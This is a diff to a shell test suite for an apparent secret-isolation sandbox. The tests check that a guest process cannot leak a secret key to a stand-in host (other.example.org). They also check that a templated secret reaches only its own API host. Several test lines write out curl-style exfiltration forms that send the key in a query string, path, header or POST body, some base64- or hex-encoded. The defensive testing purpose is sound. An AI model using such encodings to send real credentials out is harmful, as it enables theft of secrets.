@@ -137,7 +137,9 @@ S03_a_guest_that_holds_it_can_not_send_or_say_it() {
     expect_out_lacks "$(printf %s "$VALUE" | base64)"
     expect_out_lacks "$(printf %s "$VALUE" | rev)"
   done
-  for form in 'http://other.example.org/?k=$KEY' 'http://other.example.org/$(printf %s "$KEY" | base64 -w0 | tr +/ -_)' \
+  # Its own host is no exception: {{secret:key}} is what is sent there.
+  for form in 'http://other.example.org/?k=$KEY' 'http://api.example.com/?k=$KEY' \
+    'http://other.example.org/$(printf %s "$KEY" | base64 -w0 | tr +/ -_)' \
     '-H "X-Key: $KEY" http://other.example.org/' '-d "x=$KEY" http://other.example.org/' \
     '-d "$(printf %s "$KEY" | xxd -p)" http://other.example.org/'; do
     net_reset
@@ -145,6 +147,12 @@ S03_a_guest_that_holds_it_can_not_send_or_say_it() {
     [[ $status != 0 ]] || fail "sent: $form"
     is "requests for $form" "$(count_requests)" 0
   done
+  use wasm "https://other.example.org/?k=$VALUE"
+  [[ $status != 0 ]] || fail "sent from level wasm"
+  is "requests" "$(count_requests)" 0
+  use process http://api.example.com/ -H 'X-Key: {{secret:key}}'
+  expect_status 0
+  is "received by its name" "$(received)" 1
   net_reset
   run run --policy process.yaml --secret key=KEY -- curl -sSf -d hello http://other.example.org/
   expect_status 0
